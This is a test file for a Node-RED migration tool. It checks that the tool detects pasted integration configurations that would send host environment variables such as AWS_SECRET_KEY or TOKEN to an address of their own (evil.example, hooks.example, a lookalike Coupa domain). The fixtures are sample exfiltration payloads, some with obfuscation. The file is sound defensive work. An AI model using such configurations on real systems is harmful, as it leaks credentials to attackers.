// biome-ignore-all lint/suspicious/noTemplateCurlyInString: environment variables of Node-RED
import assert from 'node:assert/strict';
import type { Finding } from '../../../lib/base/finding';
import { run } from '../../../lib/migrate/command';
import { toFlow } from '../../../lib/migrate/flow/to-flow';
import { readInstance } from '../../../lib/migrate/read-instance';

const invoices = { url: '/api/invoices?updated-at[gt]=${date}', idField: 'id' };

/** An instance that names where it sends things. */
function instance(settings: object, url = invoices.url): object {
  return {
    element: { key: 'coupa' },
    configuration: {
      siteAddress: 'https://evil.example',
      ...settings,
      'event.poller.configuration': { invoices: { ...invoices, url } },
    },
  };
}

const callback = {
  'event.notification.enabled': true,
  'event.notification.callback.url': 'https://hooks.example:8443/x',
};

/** Variable and host of what is said to be sent. */
function sent(findings: readonly Finding[]): string[] {
  return findings
    .filter(({ code }) => code === 'sends-variable')
    .map(({ message, severity }) => `${severity}: ${message.values.join(' → ')}`);
}

describe('a variable of the host that a pasted text sends to an address of its own', () => {
  const evil: [title: string, value: object, said: string[]][] = [
    [
      'in a credential',
      instance({ 'oauth.api.key': '${AWS_SECRET_KEY}' }),
      ['manual: AWS_SECRET_KEY → evil.example'],
    ],
    ['in the other spelling', instance({ 'oauth.api.secret': '$(HOME)' }), ['manual: HOME → evil.example']],
    [
      'in a URL',
      instance({}, `${invoices.url}&q={{env.AWS_SECRET_KEY}}`),
      ['manual: AWS_SECRET_KEY → evil.example'],
    ],
    [
      'in a URL, raw',
      instance({}, `${invoices.url}&q={{{ env.A }}}&r={{&env.B}}`),
      ['manual: A → evil.example', 'manual: B → evil.example'],
    ],
    [
      'in a URL, behind more blanks than anybody would write',
      instance({}, `${invoices.url}&q={{${' '.repeat(40)}env.AWS_SECRET_KEY${' '.repeat(40)}}}`),
      ['manual: AWS_SECRET_KEY → evil.example'],
    ],
    [
      'under a name that has more than letters in it',
      instance({}, `${invoices.url}&q={{env.ProgramFiles(x86)}}&r={{env. CLÉ}}`),
      ['manual: CLÉ → evil.example', 'manual: ProgramFiles(x86) → evil.example'],
    ],
    [
      'under a name of any length',
      instance({}, `${invoices.url}&q={{env.${'A'.repeat(250)}}}`),
      [`manual: ${'A'.repeat(200)} → evil.example`],
    ],
    ['instead of a URL', instance({}, '${SECRET_PATH}'), ['manual: SECRET_PATH → evil.example']],
    [
      'in a header of the callback',
      instance({ ...callback, 'event.notification.callback.headers': { Authorization: '${TOKEN}' } }),
      ['manual: TOKEN → hooks.example:8443'],
    ],
    [
      'in a name that notifications carry',
      { ...instance(callback), name: '${HOST_NAME}' },
      ['manual: HOST_NAME → hooks.example:8443'],
    ],
    [
      "in Rossum's import",
      {
        credentials: { base_api_url: 'https://evil.example', client_id: '${ID}' },
        import_config: { endpoint: 'api/invoices', query: { q: '{{env.PATH}}' } },
      },
      ['manual: ID → evil.example', 'manual: PATH → evil.example'],
    ],
  ];
  for (const [title, value, said] of evil) {
    it(`is told ${title}: in the findings, in the comment, by the command`, async () => {
      const { description, findings } = readInstance(value);
      assert.deepEqual(sent(findings).sort(), said);
      const comment = toFlow(description, findings).find(({ type }) => type === 'comment');
      let told = '';
      const streams = {
        stdin: (async function* () {
          yield JSON.stringify(value);
        })(),
        stdout: { write: () => undefined },
        stderr: { write: (text: string) => (told += text) },
      };
      assert.equal(await run(['import', '-'], streams), 1);
      for (const text of [String(comment?.['info']), told]) {
        for (const line of said) {
          const [, variable = '', host = ''] = /: (\S+) → (\S+)/.exec(line) ?? [];
          assert.ok(
            text.includes(`environment variable ${variable} of this computer is sent to ${host}`),
            text,
          );
        }
      }
    });
  }

  it('is told as well of what other flows have set for all', () => {
    const said = (url: string, settings: object = {}) =>
      sent(readInstance(instance(settings, `${invoices.url}&q=${url}`)).findings);
    assert.deepEqual(said('{{global.token}}'), ['manual: {{global.token}} → evil.example']);
    assert.deepEqual(said('{{{ global[disk].a.b }}}'), ['manual: {{{ global[disk].a.b }}} → evil.example']);
    assert.deepEqual(said('{{global.plant}}', { siteAddress: 'acme.coupahost.com' }), [
      'check: {{global.plant}} → acme.coupahost.com',
    ]);
    assert.deepEqual(said('{{msg.plant}}'), []);
  });

  it('is one to check where the host is Coupa’s own', () => {
    const { findings } = readInstance(
      instance({ siteAddress: 'acme.coupahost.com', 'oauth.api.secret': '${COUPA_SECRET}' }),
    );
    assert.deepEqual(sent(findings), ['check: COUPA_SECRET → acme.coupahost.com']);
    const like = readInstance(
      instance({
        siteAddress: 'https://acme.coupahost.com.evil.example',
        'oauth.api.secret': '${COUPA_SECRET}',
      }),
    );
    assert.deepEqual(sent(like.findings), ['manual: COUPA_SECRET → acme.coupahost.com.evil.example']);
  });

  it('is told however much else is wrong with the text', () => {
    const junk = Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`x${index}`, 1]));
    const { findings } = readInstance(instance({ ...junk, 'oauth.api.secret': '${TOKEN}' }));
    assert.equal(findings[0]?.code, 'sends-variable');
  });

  const harmless: [title: string, value: object][] = [
    ['where the text names no address', instance({ siteAddress: '', 'oauth.api.secret': '${COUPA_SECRET}' })],
    [
      'on a hub, whose address is typed in',
      { ...instance({ 'oauth.api.secret': '${COUPA_SECRET}' }), element: 'sfdc' },
    ],
    [
      'where notifications are off',
      instance({
        ...callback,
        'event.notification.enabled': false,
        'event.notification.callback.headers': { a: '${B}' },
      }),
    ],
    [
      'of a date',
      instance({}, "/api/invoices?a[gt]=${date:yyyy-MM-dd'T'HH:mm}&b=${last_modified_date}&c=${epoch}"),
    ],
  ];
  for (const [title, value] of harmless) {
    it(`is none ${title}`, () => assert.deepEqual(sent(readInstance(value).findings), []));
  }
});
